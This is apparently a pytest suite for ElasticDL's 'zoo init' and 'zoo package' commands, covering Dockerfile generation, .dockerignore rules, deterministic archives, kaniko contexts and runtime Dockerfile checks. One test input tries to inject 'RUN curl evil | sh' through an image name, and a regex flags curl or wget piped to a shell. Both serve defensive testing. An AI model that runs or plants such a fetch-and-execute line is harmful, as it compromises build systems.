"""`elasticdl zoo init|package`, kaniko contexts, and the runtime image's Dockerfile.

Docker cannot run here, so the runtime Dockerfile is checked statically, and its build context
(what .dockerignore keeps) is packed, unpacked and built into a wheel for real.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import io
import os
import re
import shlex
import subprocess
import sys
import tarfile
import tomllib
import zipfile
from pathlib import Path

import pytest

from elasticdl import zoo_commands as zc

ROOT = Path(__file__).resolve().parents[1]


def zoo_cli(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="elasticdl zoo")
    zc.add_zoo_init_and_package(parser.add_subparsers(dest="zoo_command", required=True))
    args = parser.parse_args(argv)
    return args.zoo_run(args)


def assert_one_error_line(capsys: pytest.CaptureFixture[str], *fragments: str) -> str:
    out, err = capsys.readouterr()
    assert out == ""
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("elasticdl: error: ")
    for fragment in fragments:
        assert fragment in lines[0], lines[0]
    return lines[0]


# --- init --------------------------------------------------------------------------------------


def make_zoo(root: Path) -> Path:
    (root / "regressor").mkdir(parents=True)
    (root / "regressor" / "__init__.py").write_text("")
    (root / "regressor" / "dnn.py").write_text("import tensorflow as tf\n")
    return root


def test_init_writes_dockerfile_dockerignore_and_empty_requirements(tmp_path, capsys):
    zoo = make_zoo(tmp_path / "zoo")
    assert zoo_cli("init", str(zoo), "--runtime_image", "reg.example.com:5000/edl/rt:1.2") == 0
    lines = (zoo / "Dockerfile").read_text().splitlines()
    instructions = [line for line in lines if line and not line.startswith("#")]
    assert instructions == [
        "ARG RUNTIME_IMAGE=reg.example.com:5000/edl/rt:1.2",
        "FROM ${RUNTIME_IMAGE}",
        "USER root",
        "COPY requirements.txt /model_zoo/requirements.txt",
        "RUN python -m pip install --no-cache-dir -c /opt/elasticdl/constraints.txt \\",
        "    -r /model_zoo/requirements.txt",
        "COPY --chown=1000:1000 . /model_zoo",
        "USER 1000:1000",
    ]
    # An empty requirements.txt is created so the RUN line always works; pip accepts comments.
    requirements = (zoo / "requirements.txt").read_text()
    assert all(line.startswith("#") for line in requirements.splitlines())
    ignore = zc.DockerIgnore.read(zoo)
    assert ignore.excluded(".git/config") and ignore.excluded("a/__pycache__/m.cpython-311.pyc")
    assert ignore.excluded("Dockerfile") and not ignore.excluded("regressor/dnn.py")
    out = capsys.readouterr().out
    assert f"wrote {zoo}/Dockerfile (FROM reg.example.com:5000/edl/rt:1.2)" in out
    assert f"created {zoo}/requirements.txt" in out
    assert f"elasticdl zoo package {zoo} --to gs://BUCKET/contexts/" in out


def test_init_default_image_keeps_the_users_requirements_and_dockerignore(tmp_path, capsys):
    zoo = make_zoo(tmp_path / "zoo")
    (zoo / "requirements.txt").write_text("lightgbm==4.5.0\n")
    (zoo / ".dockerignore").write_text("notebooks\n")
    assert zoo_cli("init", str(zoo)) == 0
    assert f"ARG RUNTIME_IMAGE={zc.DEFAULT_RUNTIME_IMAGE}\n" in (zoo / "Dockerfile").read_text()
    assert (zoo / "requirements.txt").read_text() == "lightgbm==4.5.0\n"
    assert (zoo / ".dockerignore").read_text() == "notebooks\n"
    out = capsys.readouterr().out
    assert f"kept {zoo}/.dockerignore" in out and "created" not in out
    assert sorted(p.name for p in zoo.iterdir()) == [
        ".dockerignore",
        "Dockerfile",
        "regressor",
        "requirements.txt",
    ]  # no staging files left behind


def test_init_refuses_to_overwrite_a_dockerfile_unless_forced(tmp_path, capsys):
    zoo = make_zoo(tmp_path / "zoo")
    (zoo / "Dockerfile").write_text("FROM mine\n")
    assert zoo_cli("init", str(zoo)) == 2
    assert_one_error_line(capsys, "Dockerfile already exists", "--force")
    assert (zoo / "Dockerfile").read_text() == "FROM mine\n"
    assert not (zoo / "requirements.txt").exists()  # nothing written when refused

    assert zoo_cli("init", str(zoo), "--force", "--runtime_image", "rt@sha256:" + "ab" * 32) == 0
    assert "ARG RUNTIME_IMAGE=rt@sha256:" + "ab" * 32 in (zoo / "Dockerfile").read_text()


@pytest.mark.parametrize(
    ("make_target", "image", "fragment"),
    [
        (lambda tmp: tmp / "missing", zc.DEFAULT_RUNTIME_IMAGE, "does not exist"),
        (lambda tmp: tmp / "file.py", zc.DEFAULT_RUNTIME_IMAGE, "is not a directory"),
        (lambda tmp: tmp, "rt:1\nRUN curl evil | sh", "is not an image reference"),
        (lambda tmp: tmp, "Upper/Case", "is not an image reference"),
        (lambda tmp: tmp, "", "is not an image reference"),
    ],
)
def test_init_bad_inputs_give_one_line(tmp_path, capsys, make_target, image, fragment):
    (tmp_path / "file.py").write_text("")
    target = make_target(tmp_path)
    assert zoo_cli("init", str(target), "--runtime_image", image) == 2
    assert_one_error_line(capsys, fragment)
    assert not (tmp_path / "Dockerfile").exists()


def test_init_reports_an_unwritable_directory(tmp_path, capsys):
    if os.geteuid() == 0:
        pytest.skip("root can write anywhere")
    zoo = make_zoo(tmp_path / "zoo")
    zoo.chmod(0o555)
    try:
        assert zoo_cli("init", str(zoo)) == 2
    finally:
        zoo.chmod(0o755)
    assert_one_error_line(capsys, "cannot write", "Permission denied")


# --- .dockerignore -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rules", "path", "excluded"),
    [
        # Docker's documented examples.
        (["*/temp*"], "somedir/temporary.txt", True),
        (["*/temp*"], "somedir/temp", True),
        (["*/temp*"], "temp.txt", False),
        (["*/temp*"], "a/b/temp.txt", False),
        (["*/*/temp*"], "subdir/dir/temp.txt", True),
        (["temp?"], "tempa", True),
        (["temp?"], "tempab", False),
        (["**/*.go"], "a/b/c.go", True),
        (["**/*.go"], "c.go", True),
        (["*.md", "!README.md"], "README.md", False),
        (["*.md", "!README.md"], "CHANGES.md", True),
        (["*.md", "!README*.md", "README-secret.md"], "README-secret.md", True),
        (["*.md", "!README*.md", "README-secret.md"], "README-public.md", False),
        # A pattern that matches a directory matches everything in it; `!` re-includes.
        (["data"], "data/x/y.csv", True),
        (["data", "!data/keep.csv"], "data/keep.csv", False),
        (["data", "!data/keep.csv"], "data/other.csv", True),
        # Anchored at the root, cleaned like filepath.Clean.
        (["*.pyc"], "pkg/m.pyc", False),
        (["/build/"], "build/out.o", True),
        (["./notes//*.txt"], "notes/a.txt", True),
        (["# comment", "", "  logs  "], "logs/today", True),
        (["[a-c]?.txt"], "b1.txt", True),
        (["[^a-c]?.txt"], "b1.txt", False),
        (["\\*.txt"], "*.txt", True),
        (["\\*.txt"], "a.txt", False),
        (["a/**/z"], "a/z", True),
        (["a/**/z"], "a/b/c/z", True),
        (["a/**"], "a/b", True),
        (["*"], "anything/at/all", True),
    ],
)
def test_dockerignore_follows_dockers_rules(rules, path, excluded):
    assert zc.DockerIgnore(rules).excluded(path) is excluded


def test_dockerignore_reports_a_bad_pattern():
    with pytest.raises(zc.ZooCommandError, match="unterminated"):
        zc.DockerIgnore(["data[0-9"])


# --- package -----------------------------------------------------------------------------------

ZOO_DOCKERIGNORE = """\
# rules of this zoo
data/*.csv
!data/keep.csv
secrets
**/*.log
Dockerfile
"""


def make_packable_zoo(root: Path) -> Path:
    """A zoo with one of everything the packer must keep, drop or normalize."""
    make_zoo(root)
    (root / "requirements.txt").write_text("lightgbm==4.5.0\n")
    (root / "Dockerfile").write_text(zc.render_zoo_dockerfile())
    (root / ".dockerignore").write_text(ZOO_DOCKERIGNORE)
    (root / "regressor" / "weights.bin").write_bytes(bytes(range(256)) * 40)
    (root / "tools").mkdir()
    (root / "tools" / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (root / "tools" / "run.sh").chmod(0o750)
    (root / "tools" / "run-link").symlink_to("run.sh")
    (root / "empty").mkdir()
    (root / "données.txt").write_text("é\n")
    (root / "data").mkdir()
    (root / "data" / "keep.csv").write_text("a,b\n")
    (root / "data" / "drop.csv").write_text("c,d\n")
    (root / "data" / "notes.txt").write_text("kept\n")
    (root / "secrets").mkdir()
    (root / "secrets" / "token").write_text("s3cr3t")
    (root / "regressor" / "train.log").write_text("noise")
    (root / "regressor" / "__pycache__").mkdir()
    (root / "regressor" / "__pycache__" / "dnn.cpython-311.pyc").write_bytes(b"\0")
    (root / "stale.pyc").write_bytes(b"\0")
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return root


# What make_packable_zoo's context must hold, written out by hand (not computed by the code
# under test): Dockerfile is excluded by .dockerignore but always sent, like Docker does.
EXPECTED_ENTRIES = {
    ".dockerignore": "file",
    "Dockerfile": "file",
    "data": "dir",
    "data/keep.csv": "file",
    "data/notes.txt": "file",
    "données.txt": "file",
    "empty": "dir",
    "regressor": "dir",
    "regressor/__init__.py": "file",
    "regressor/dnn.py": "file",
    "regressor/weights.bin": "file",
    "requirements.txt": "file",
    "tools": "dir",
    "tools/run-link": "link",
    "tools/run.sh": "file",
}


def tree(root: Path) -> dict[str, tuple[str, bytes]]:
    """Every entry under root: kind and bytes (a link's target)."""
    entries: dict[str, tuple[str, bytes]] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            entries[rel] = ("link", os.readlink(path).encode())
        elif path.is_dir():
            entries[rel] = ("dir", b"")
        else:
            entries[rel] = ("file", path.read_bytes())
    return entries


def unpack(data: bytes, into: Path) -> list[tarfile.TarInfo]:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        members = tar.getmembers()
        tar.extractall(into, filter="data")
    return members


def assert_context_matches_source(data: bytes, zoo: Path, scratch: Path) -> None:
    members = unpack(data, scratch)
    unpacked = tree(scratch)
    source = tree(zoo)
    assert {name: kind for name, (kind, _) in unpacked.items()} == EXPECTED_ENTRIES
    assert unpacked == {name: source[name] for name in EXPECTED_ENTRIES}
    # Normalized metadata: nothing of this machine leaks into the bytes.
    assert [m.name for m in members] == sorted(
        (m.name for m in members), key=lambda n: n.split("/")
    )
    for member in members:
        assert (member.mtime, member.uid, member.gid) == (zc.FIXED_MTIME, 0, 0)
        assert (member.uname, member.gname) == ("", "")
    modes = {m.name: m.mode for m in members}
    assert modes["tools/run.sh"] == 0o755 and modes["regressor/dnn.py"] == 0o644
    assert modes["tools"] == 0o755 and modes["tools/run-link"] == 0o777


def test_package_round_trip_and_content_addressed_name(tmp_path, capsys):
    zoo = make_packable_zoo(tmp_path / "zoo")
    target = tmp_path / "contexts"
    assert zoo_cli("package", str(zoo), "--to", f"{target}/") == 0
    url, sha_line, note = capsys.readouterr().out.splitlines()
    [packed] = target.iterdir()
    data = packed.read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    assert packed.name == f"zoo-{digest}.tar.gz" and url == f"{target}/{packed.name}"
    assert sha_line == f"sha256:{digest}"
    assert note.startswith("10 file(s), ") and "uploaded" in note
    assert_context_matches_source(data, zoo, tmp_path / "unpacked")
    # gzip header: no file name, no time.
    assert data[:10] == b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"


def test_package_is_deterministic_and_skips_an_identical_upload(tmp_path, capsys):
    zoo = make_packable_zoo(tmp_path / "zoo")
    first = zc.build_context_archive(zoo, tmp_path / "a.tar.gz")
    second = zc.build_context_archive(zoo, tmp_path / "b.tar.gz")
    assert (tmp_path / "a.tar.gz").read_bytes() == (tmp_path / "b.tar.gz").read_bytes()
    assert first == second

    # Timestamps, group/other permission bits and the umask do not change the bytes.
    for path in zoo.rglob("*"):
        if not path.is_symlink():
            os.utime(path, (1_700_000_000, 1_700_000_000))
    (zoo / "regressor" / "dnn.py").chmod(0o664)
    (zoo / "tools" / "run.sh").chmod(0o700)
    assert zc.build_context_archive(zoo, tmp_path / "c.tar.gz").sha256 == first.sha256

    # Files that are not packed do not matter; packed content does.
    (zoo / "secrets" / "token").write_text("rotated")
    (zoo / ".git" / "HEAD").write_text("ref: refs/heads/other\n")
    assert zc.build_context_archive(zoo, tmp_path / "d.tar.gz").sha256 == first.sha256
    (zoo / "regressor" / "dnn.py").write_text("import keras\n")
    assert zc.build_context_archive(zoo, tmp_path / "e.tar.gz").sha256 != first.sha256

    target = tmp_path / "contexts"
    assert zoo_cli("package", str(zoo), "--to", str(target) + "/") == 0
    assert zoo_cli("package", str(zoo), "--to", str(target)) == 0  # an existing dir: same name
    outputs = capsys.readouterr().out.splitlines()
    assert outputs[0] == outputs[3] and "already there, not uploaded again" in outputs[5]
    assert len(list(target.iterdir())) == 1

    explicit = tmp_path / "named" / "zoo.tar.gz"
    assert zoo_cli("package", str(zoo), "--to", str(explicit)) == 0
    assert capsys.readouterr().out.splitlines()[0] == str(explicit)
    assert hashlib.sha256(explicit.read_bytes()).hexdigest() == outputs[1].split(":")[1]


def test_package_round_trip_through_the_gcs_emulator(tmp_path, capsys):
    from gcs_emulator import gcs_emulator

    zoo = make_packable_zoo(tmp_path / "zoo")
    with gcs_emulator(bucket="zoo-contexts") as gcs:
        assert zoo_cli("package", str(zoo), "--to", gcs.url("contexts/")) == 0
        url, sha_line, note = capsys.readouterr().out.splitlines()
        assert url.startswith("gs://zoo-contexts/contexts/zoo-") and url.endswith(".tar.gz")
        assert note.endswith(f"kaniko: --context={url}")
        assert zc.kaniko_context(url) == url
        data = gcs.fs.cat(url)
        assert sha_line == f"sha256:{hashlib.sha256(data).hexdigest()}"
        assert_context_matches_source(data, zoo, tmp_path / "unpacked")

        # Unwritable: a bucket that does not exist (and must not be created).
        assert zoo_cli("package", str(zoo), "--to", "gs://no-such-bucket/contexts/") == 2
        assert_one_error_line(
            capsys, "cannot write gs://no-such-bucket/contexts/zoo-", "does the bucket exist?"
        )
        assert not gcs.fs.exists("no-such-bucket")
        assert gcs.fs.ls("zoo-contexts/contexts") == [url[len("gs://") :]]


def test_package_bad_inputs_give_one_line(tmp_path, capsys):
    zoo = make_packable_zoo(tmp_path / "zoo")
    (tmp_path / "a-file").write_text("")
    cases = [
        ((str(tmp_path / "missing"), "--to", f"{tmp_path}/out/"), ["does not exist"]),
        ((str(tmp_path / "a-file"), "--to", f"{tmp_path}/out/"), ["is not a directory"]),
        ((str(zoo), "--to", f"{tmp_path}/out/ctx"), ["end it with '/'", ".tar.gz"]),
        ((str(zoo), "--to", "nosuchproto://bucket/x/"), ["nosuchproto"]),
        ((str(zoo), "--to", f"{tmp_path}/a-file/sub/"), ["cannot write", "a-file/sub/zoo-"]),
        ((str(zoo), "--to", ""), ["--to URL is required"]),
    ]
    for argv, fragments in cases:
        assert zoo_cli("package", *argv) == 2, argv
        assert_one_error_line(capsys, *fragments)
    assert not (tmp_path / "out").exists()

    (zoo / "Dockerfile").unlink()
    assert zoo_cli("package", str(zoo), "--to", f"{tmp_path}/out/") == 2
    assert_one_error_line(capsys, "has no Dockerfile", f"elasticdl zoo init {zoo}")

    (zoo / "Dockerfile").write_text(zc.render_zoo_dockerfile())
    (zoo / "requirements.txt").unlink()
    assert zoo_cli("package", str(zoo), "--to", f"{tmp_path}/out/") == 2
    assert_one_error_line(capsys, "copies requirements.txt but there is none")

    (zoo / "requirements.txt").write_text("")
    (zoo / ".dockerignore").write_text("*.txt\n")
    assert zoo_cli("package", str(zoo), "--to", f"{tmp_path}/out/") == 2
    assert_one_error_line(capsys, ".dockerignore excludes requirements.txt")

    (zoo / ".dockerignore").write_text("")
    os.mkfifo(zoo / "a-pipe")
    assert zoo_cli("package", str(zoo), "--to", f"{tmp_path}/out/") == 2
    assert_one_error_line(capsys, "a-pipe is not a regular file", "add it to .dockerignore")
    assert not (tmp_path / "out").exists()


def test_package_of_an_initialized_zoo_leaves_build_files_out_of_model_zoo(tmp_path, capsys):
    zoo = make_zoo(tmp_path / "zoo")
    assert zoo_cli("init", str(zoo)) == 0
    (zoo / "regressor" / "__pycache__").mkdir()
    (zoo / "regressor" / "__pycache__" / "dnn.cpython-311.pyc").write_bytes(b"\0")
    archive = zc.build_context_archive(zoo, tmp_path / "ctx.tar.gz")
    assert archive.entries == (
        ".dockerignore",
        "Dockerfile",
        "regressor",
        "regressor/__init__.py",
        "regressor/dnn.py",
        "requirements.txt",
    )
    # The builder gets Dockerfile and .dockerignore; `COPY . /model_zoo` leaves them out.
    ignore = zc.DockerIgnore.read(zoo)
    copied = [e for e in archive.entries if not ignore.excluded(e)]
    assert copied == ["regressor", "regressor/__init__.py", "regressor/dnn.py", "requirements.txt"]


# --- kaniko --context --------------------------------------------------------------------------

SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("location", "context"),
    [
        ("https://github.com/org/models.git", "git://github.com/org/models.git"),
        ("git+https://github.com/org/models.git", "git://github.com/org/models.git"),
        (
            "git+https://github.com/org/models.git@main",
            "git://github.com/org/models.git#refs/heads/main",
        ),
        ("https://git.corp/models.git@main", "git://git.corp/models.git#refs/heads/main"),
        ("git+https://git.corp/team/models@dev", "git://git.corp/team/models#refs/heads/dev"),
        (
            "git+https://github.com/org/models.git@feature/new-dnn",
            "git://github.com/org/models.git#refs/heads/feature/new-dnn",
        ),
        (
            "git+https://github.com/org/models.git@refs/tags/v1.2",
            "git://github.com/org/models.git#refs/tags/v1.2",
        ),
        (
            "git+https://github.com/org/models.git@refs/pull/7/head",
            "git://github.com/org/models.git#refs/pull/7/head",
        ),
        (f"git+https://h.example/m.git@{SHA.upper()}", f"git://h.example/m.git#{SHA}"),
        ("git+http://gitea.local:3000/m.git@main", "git://gitea.local:3000/m.git#refs/heads/main"),
        ("git://h.example/m.git@main", "git://h.example/m.git#refs/heads/main"),
        ("git://h.example/m.git#refs/heads/main", "git://h.example/m.git#refs/heads/main"),
        (
            f"git://h.example/m.git#refs/heads/main#{SHA}",
            f"git://h.example/m.git#refs/heads/main#{SHA}",
        ),
        ("gs://bucket/contexts/zoo-abc.tar.gz", "gs://bucket/contexts/zoo-abc.tar.gz"),
        ("s3://bucket/ctx.tar.gz", "s3://bucket/ctx.tar.gz"),
        (
            "https://acct.blob.core.windows.net/c/ctx.tar.gz",
            "https://acct.blob.core.windows.net/c/ctx.tar.gz",
        ),
        ("  https://github.com/org/models.git\n", "git://github.com/org/models.git"),
    ],
)
def test_kaniko_context(location, context):
    assert zc.kaniko_context(location) == context


@pytest.mark.parametrize(
    ("location", "fragment"),
    [
        ("", "empty"),
        ("builtin", "part of the runtime image"),
        ("/home/me/zoo", "elasticdl zoo package DIR --to gs://"),
        ("gs://bucket/contexts/", "kaniko reads a .tar.gz"),
        ("gs://bucket/zoo.zip", "kaniko reads a .tar.gz"),
        ("git+ssh://git@github.com/org/m.git", "over https"),
        ("ssh://git@github.com/org/m.git", "over https"),
        ("git@github.com:org/m.git", "cannot clone over ssh"),
        ("git+file:///srv/m.git", "cannot read a repository on this machine"),
        ("https://user:token@github.com/org/m.git", "do not put credentials in the URL"),
        ("git+https://github.com/org/m.git#subdirectory=zoo", "--context-sub-path"),
        ("git+https://github.com/org/m.git@0123abc", "full 40-character commit"),
        ("git+https://github.com/org/m.git@bad..ref", "not a git branch"),
        ("git+https://github.com/org/m.git@has space", "not a git branch"),
        ("git+https:///m.git", "needs a host"),
    ],
)
def test_kaniko_context_refuses_what_kaniko_cannot_use(location, fragment):
    with pytest.raises(zc.ZooCommandError) as err:
        zc.kaniko_context(location)
    assert fragment in str(err.value) and "\n" not in str(err.value)


def test_kaniko_env_asks_for_http_only_for_http_urls():
    assert zc.kaniko_env("git+http://gitea.local:3000/m.git") == {"GIT_PULL_METHOD": "http"}
    assert zc.kaniko_env("https://github.com/org/m.git") == {}
    assert zc.kaniko_env("gs://b/ctx.tar.gz") == {}


# --- the runtime image's Dockerfile and .dockerignore -------------------------------------------


def dockerfile_instructions(text: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) with continuation lines joined and comments dropped."""
    instructions: list[tuple[str, str]] = []
    pending = ""
    for line in text.splitlines():
        stripped = line.strip()
        if not pending and (not stripped or stripped.startswith("#")):
            continue
        if stripped.startswith("#"):
            continue  # a comment inside a continued instruction
        pending += " " + stripped
        if pending.endswith("\\"):
            pending = pending[:-1]
            continue
        keyword, _, args = pending.strip().partition(" ")
        instructions.append((keyword.upper(), " ".join(args.split())))
        pending = ""
    assert not pending, "the Dockerfile ends inside a continued instruction"
    return instructions


def key_values(args: str) -> dict[str, str]:
    pairs = {}
    for token in shlex.split(args):
        key, _, value = token.partition("=")
        pairs[key] = value
    return pairs


def stages(instructions: list[tuple[str, str]]) -> list[list[tuple[str, str]]]:
    result: list[list[tuple[str, str]]] = []
    for keyword, args in instructions:
        if keyword == "FROM":
            result.append([])
        if result:
            result[-1].append((keyword, args))
    return result


def test_runtime_dockerfile_static_checks():
    text = (ROOT / "Dockerfile").read_text()
    instructions = dockerfile_instructions(text)
    known = {"ARG", "FROM", "ENV", "RUN", "WORKDIR", "COPY", "LABEL", "USER"}
    assert {keyword for keyword, _ in instructions} <= known  # no ENTRYPOINT, CMD, ADD, ...

    before_first_from = []
    for keyword, args in instructions:
        if keyword == "FROM":
            break
        before_first_from.append((keyword, args))
    assert before_first_from == [("ARG", "BASE_IMAGE=python:3.11-slim")]
    all_stages = stages(instructions)
    assert [s[0] for s in all_stages] == [
        ("FROM", "${BASE_IMAGE} AS build"),
        ("FROM", "${BASE_IMAGE}"),
    ]

    for keyword, args in instructions:
        if keyword == "RUN":
            assert not re.search(r"\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b", args), args
            assert "--trusted-host" not in args and "chmod 777" not in args

    build, final = all_stages
    installs = [args for keyword, args in build if keyword == "RUN" and "pip install" in args]
    assert len(installs) == 1
    install_words = installs[0].split("&&")[0].split()
    assert install_words[:4] == ["python", "-m", "pip", "install"]
    assert install_words[4:] == ['".${ELASTICDL_EXTRAS}"']  # the project, [gpu] for GPU images
    assert ("ARG", "ELASTICDL_EXTRAS=") in build
    assert not any("[dev]" in w or w.startswith("-e") for w in install_words)
    # The constraints pin everything but the project itself (its distribution's name).
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["name"]
    assert f"pip freeze --exclude {project} > /opt/elasticdl/constraints.txt" in installs[0]
    assert zc.RUNTIME_CONSTRAINTS == "/opt/elasticdl/constraints.txt"

    users = [args for keyword, args in final if keyword == "USER"]
    assert users and users[-1] == zc.RUNTIME_USER
    uid, _, gid = users[-1].partition(":")
    assert uid.isdigit() and int(uid) != 0 and gid.isdigit() and int(gid) != 0
    assert final[-1][0] in ("USER", "WORKDIR")  # nothing runs as root after USER

    env: dict[str, str] = {}
    for keyword, args in final:
        if keyword == "ENV":
            env.update(key_values(args))
    assert env["PYTHONUNBUFFERED"] == "1" and env["TF_CPP_MIN_LOG_LEVEL"] == "3"
    assert env["PATH"].startswith("/opt/venv/bin:")
    # CUDA for a pod given a GPU; its GPUs are the device plugin's, never all of a node's.
    assert env["NVIDIA_DRIVER_CAPABILITIES"] == "compute,utility"
    assert "NVIDIA_VISIBLE_DEVICES" not in env

    labels: dict[str, str] = {}
    args_defaults: dict[str, str] = {}
    for keyword, args in final:
        if keyword == "LABEL":
            labels.update(key_values(args))
        if keyword == "ARG":
            args_defaults.update(key_values(args))
    for key in ("title", "description", "source", "licenses", "version", "revision"):
        assert labels[f"org.opencontainers.image.{key}"], key
    assert labels["org.opencontainers.image.version"] == "${VERSION}"
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert args_defaults["VERSION"] == project["version"]
    assert labels["org.opencontainers.image.licenses"] == project["license"]

    # Every build-context COPY source exists and survives .dockerignore.
    ignore = zc.DockerIgnore.read(ROOT)
    copies = [args for keyword, args in build + final if keyword == "COPY"]
    context_sources = []
    for args in copies:
        words = args.split()
        if any(w.startswith("--from=") for w in words):
            continue
        context_sources += [w for w in words[:-1] if not w.startswith("--")]
    assert context_sources
    for source in context_sources:
        assert (ROOT / source).exists(), source
        assert not ignore.excluded(source), f".dockerignore drops {source}, which COPY needs"


def test_runtime_dockerignore_keeps_the_packages_and_drops_the_rest():
    ignore = zc.DockerIgnore.read(ROOT)
    setuptools = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]
    for folder in set(setuptools["package-dir"].values()):
        assert not ignore.excluded(f"{folder}/__init__.py"), folder
    for kept in ("pyproject.toml", "README.md", "model_zoo/mnist/mnist_functional_api.py"):
        assert not ignore.excluded(kept), kept
    for dropped in (
        ".venv/bin/python",
        "tests/test_cli.py",
        "bench/recordio.py",
        "demo-output/hr.db",
        ".git/HEAD",
        "elasticdl.egg-info/PKG-INFO",
        "runtime/__pycache__/outputs.cpython-311.pyc",
        "scripts/setup.sh",
    ):
        assert ignore.excluded(dropped), dropped


def test_runtime_build_context_builds_the_wheel(tmp_path):
    """What `pip install .` sees in the image: the packed context builds a complete wheel."""
    archive = zc.build_context_archive(ROOT, tmp_path / "context.tar.gz")
    assert not any(e.startswith(("tests", "bench", ".venv", ".git/")) for e in archive.entries)
    context = tmp_path / "src"
    with tarfile.open(tmp_path / "context.tar.gz") as tar:
        tar.extractall(context, filter="data")
    build = subprocess.run(
        [
            sys.executable,
            "-P",
            "-c",
            "import sys; from setuptools import build_meta; "
            "print(build_meta.build_wheel(sys.argv[1]))",
            str(tmp_path / "dist"),
        ],
        cwd=context,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert build.returncode == 0, build.stderr[-3000:]
    wheel = tmp_path / "dist" / build.stdout.split()[-1]
    names = set(zipfile.ZipFile(wheel).namelist())
    for required in (
        "elasticdl/cli.py",
        "elasticdl/zoo_commands.py",
        "elasticdl/runtime/master/training_job.py",
        "elasticdl/runtime/master/job_report.schema.json",
        "elasticdl/steps/__init__.py",
        "elasticdl/workflows/__init__.py",
        "elasticdl/proto/elasticdl_pb2.py",
        "elasticdl/model_zoo/requirements.txt",
        "elasticdl/model_zoo/mnist/mnist_functional_api.py",
    ):
        assert required in names, required
    assert not any("__pycache__" in n or n.startswith("tests/") for n in names)


def test_gzip_member_header_is_fixed(tmp_path):
    """The gzip layer alone: same input, same bytes (no name or mtime in the header)."""
    zoo = make_zoo(tmp_path / "zoo")
    (zoo / "Dockerfile").write_text("FROM x\n")
    archive = zc.build_context_archive(zoo, tmp_path / "ctx.tar.gz")
    data = (tmp_path / "ctx.tar.gz").read_bytes()
    with gzip.GzipFile(fileobj=io.BytesIO(data)) as gz:
        gz.read()
        assert gz.mtime == 0
    assert archive.size == len(data)
